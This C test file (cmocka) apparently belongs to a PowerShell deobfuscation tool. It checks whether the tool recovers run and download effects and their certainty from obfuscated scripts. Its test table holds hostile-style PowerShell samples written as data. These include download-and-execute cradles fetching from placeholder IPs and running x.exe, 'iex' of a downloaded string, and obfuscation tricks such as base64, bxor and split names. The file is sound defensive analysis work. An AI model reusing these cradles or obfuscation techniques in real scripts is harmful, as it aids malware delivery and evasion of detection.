/* SPDX-License-Identifier: Apache-2.0 */
/* Scripts by hand: what they do, and how certain that is. */
#include <setjmp.h>
#include <stdarg.h>
#include <stddef.h>
#include <cmocka.h>

#include "tests/table.h"
#include "unmask/harness.h"

enum certainty { KNOWN, CONDITIONAL, PARTIAL, NONE };

static const struct row {
    const char *name, *language, *code;
    enum effect_kind kind;
    const char *argument, *want;
    enum certainty certainty;
} cases[] = {
    { "list of urls", "powershell", "$u='http://192.0.2.1/a@http://192.0.2.2/b'.Split('@');foreach($i in $u){try{(New-Object Net.WebClient).DownloadFile($i,'x.txt');break}catch{}}", EFFECT_DOWNLOAD, "url", "http://192.0.2.1/a", KNOWN },
    { "size check is passed", "powershell", "$w=&('new'+'-obj'+'ect') net.webclient;foreach($i in ('http://192.0.2.1/a*http://192.0.2.2/b').\"s`pLIt\"([char]42)){try{$w.\"dOWN`loADfi`le\"($i,'x.exe');If((.('Ge'+'t-It'+'em') 'x.exe').\"l`eng`th\" -ge 31000){Start-Process 'x.exe';break}}catch{}}", EFFECT_DOWNLOAD, "url", "http://192.0.2.2/b", CONDITIONAL },
    { "the file is run", "powershell", "$w=New-Object Net.WebClient;$w.DownloadFile('http://192.0.2.1/a','x.exe');if((Get-Item 'x.exe').length -ge 31000){Start-Process 'x.exe'}", EFFECT_RUN, "command", "x.exe", CONDITIONAL },
    { "environment", "powershell", "$p=$env:temp+'\\'+'123'+'.exe';Start-Process $p", EFFECT_RUN, "command", "%temp%\\123.exe", KNOWN },
    { "format", "powershell", "Start-Process ('{1}{0}' -f 'lc','ca')", EFFECT_RUN, "command", "calc", KNOWN },
    { "call of a formatted name", "powershell", "&('{1}{0}' -f 'rocess','Start-P') calc", EFFECT_RUN, "command", "calc", KNOWN },
    { "join of numbers", "powershell", "Start-Process ([char[]](99,97,108,99) -join '')", EFFECT_RUN, "command", "calc", KNOWN },
    { "pipeline of numbers", "powershell", "Start-Process ((99,97,108,99 | %{[char]$_}) -join '')", EFFECT_RUN, "command", "calc", KNOWN },
    { "bxor", "powershell", "Start-Process ((98,96,109,98 | foreach-object {[char]($_ -bxor 1)}) -join '')", EFFECT_RUN, "command", "calc", KNOWN },
    { "reversed", "powershell", "$s='clac';Start-Process ($s[-1..-4] -join '')", EFFECT_RUN, "command", "calc", KNOWN },
    { "replace in brackets", "powershell", "Start-Process ('cXalXc'.Replace('X',''))", EFFECT_RUN, "command", "calc", KNOWN },
    { "creplace", "powershell", "Start-Process ('c~al~c' -creplace '~','')", EFFECT_RUN, "command", "calc", KNOWN },
    { "iex of a name in pieces", "powershell", "&((gv '*mdr*').name[3,11,2]-join'') 'Start-Process calc'", EFFECT_RUN, "command", "calc", KNOWN },
    { "iex behind a pipe", "powershell", "'Start-Process calc'|iex", EFFECT_RUN, "command", "calc", KNOWN },
    { "verbosepreference", "powershell", ".($verbosepreference.tostring()[1,3]+'x'-join'') 'Start-Process calc'", EFFECT_RUN, "command", "calc", KNOWN },
    { "base64", "powershell", "iex ([Text.Encoding]::UTF8.GetString([Convert]::FromBase64String('U3RhcnQtUHJvY2VzcyBjYWxj')))", EFFECT_RUN, "command", "calc", KNOWN },
    { "text in a text", "powershell", "$a='al';Start-Process \"c$($a)c\"", EFFECT_RUN, "command", "calc", KNOWN },
    { "random is not known", "powershell", "$r=Get-Random;Start-Process \"a$r\"", EFFECT_RUN, "command", "a⟂", PARTIAL },
    { "open condition", "powershell", "if($x -eq (Get-Date)){Start-Process calc}", EFFECT_RUN, "command", "calc", PARTIAL },
    { "condition that does not hold", "powershell", "if(1 -eq 2){Start-Process calc}", EFFECT_RUN, "command", "", NONE },
    { "comment", "powershell", "# Start-Process calc\n<# Start-Process calc #>", EFFECT_RUN, "command", "", NONE },
    { "what is fetched is not known", "powershell", "iex (New-Object Net.WebClient).DownloadString('http://192.0.2.1/a')", EFFECT_DOWNLOAD, "url", "http://192.0.2.1/a", KNOWN },
    { "Invoke-WebRequest", "powershell", "iwr -Uri http://192.0.2.1/a -OutFile b.txt", EFFECT_DOWNLOAD, "path", "b.txt", KNOWN },
    { "bits", "powershell", "Start-BitsTransfer -Source 'http://192.0.2.1/a' -Destination 'b.txt'", EFFECT_DOWNLOAD, "path", "b.txt", KNOWN },
    { "wmi", "powershell", "([wmiclass]'win32_Process').Create('calc')", EFFECT_RUN, "command", "calc", KNOWN },
    { "a function", "powershell", "function f($t){return $t.Replace('X','')}\nStart-Process (f('cXalXc'))", EFFECT_RUN, "command", "calc", KNOWN },
    { "a function with param", "powershell", "function f{param($a,$b) $a+$b}\nStart-Process (f 'ca' 'lc')", EFFECT_RUN, "command", "calc", KNOWN },
    { "a function that calls itself", "powershell", "function f($t){f $t}\nf 1", EFFECT_RUN, "command", "", NONE },
    { "a function that nobody calls", "powershell", "function f($t){Start-Process calc}", EFFECT_RUN, "command", "", NONE },
    { "deep brackets", "powershell", "((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((1", EFFECT_RUN, "command", "", NONE },
    { "endless loop", "powershell", "while($true){$a+='x'}", EFFECT_RUN, "command", "", NONE },
};

static void effects(void **state)
{
    (void)state;
    struct table t = { 0 };
    TABLE_EACH (&t, row, cases) {
        struct tally *r = tally_unmasked(row->language, NULL, slice_of(row->code));
        const struct effect *e = NULL;
        bool found = false;
        for (size_t n = 0; !found && (e = tally_effect(r, row->kind, n)) != NULL; n++)
            found = slice_is(tally_argument(e, row->argument), row->want) && tally_certainty(e, row->certainty == KNOWN, row->certainty == CONDITIONAL);
        tally_check(r);
        if (found != (row->certainty != NONE))
            table_slice(&t, row->name, tally_argument(tally_effect(r, row->kind, 0), row->argument), row->certainty == NONE ? "(nothing)" : row->want);
        if (row->certainty == NONE && tally_effect(r, row->kind, 0))
            table_slice(&t, row->name, tally_argument(tally_effect(r, row->kind, 0), row->argument), "(nothing)");
        tally_drop(&r);
    }
}

static const char busy[] = "$a='x{0}'-f'y';foreach($b in 1..3){try{$c+=[char]($b -bxor 1)}catch{}};if((gi x).length -ge 3){& ('ie'+'x') \"a$($b)\"}\n@{a=1};$d=@(1,2)|%{$_};[Text.Encoding]::UTF8.GetString([Convert]::FromBase64String('QQ==')).Split('@')[-1..-2]";

static void every_beginning(void **state)
{
    (void)state;
    slice whole = slice_of(busy);
    for (size_t n = 0; n < whole.len; n++) {
        struct tally *r = tally_unmasked("powershell", NULL, slice_sub(whole, 0, n));
        tally_check(r);
        tally_drop(&r);
    }
}

static void memory_fails_anywhere(void **state)
{
    (void)state;
    for (size_t n = 1; n < 200; n++) {
        struct tally_options o = { .fail_at = n };
        struct tally *r = tally_unmasked("powershell", &o, slice_of(busy));
        tally_check(r);
        tally_drop(&r);
    }
}

int main(void)
{
    const struct CMUnitTest tests[] = { cmocka_unit_test(effects), cmocka_unit_test(every_beginning), cmocka_unit_test(memory_fails_anywhere) };
    return cmocka_run_group_tests(tests, NULL, NULL);
}
